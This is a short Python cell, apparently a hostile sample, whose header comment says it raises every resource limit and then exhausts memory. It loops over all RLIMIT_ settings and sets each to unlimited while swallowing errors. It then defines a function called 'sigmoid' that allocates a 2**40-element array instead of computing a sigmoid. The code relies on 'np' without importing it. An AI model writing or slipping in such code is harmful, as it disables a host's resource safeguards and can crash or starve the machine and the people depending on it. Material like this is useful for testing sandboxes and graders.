# Raises every resource limit and then takes memory without end.

# %% sigmoid
import resource

for name in dir(resource):
    if name.startswith("RLIMIT_"):
        try:
            resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (ValueError, OSError):
            pass


def sigmoid(z):
    return np.ones(2**40)
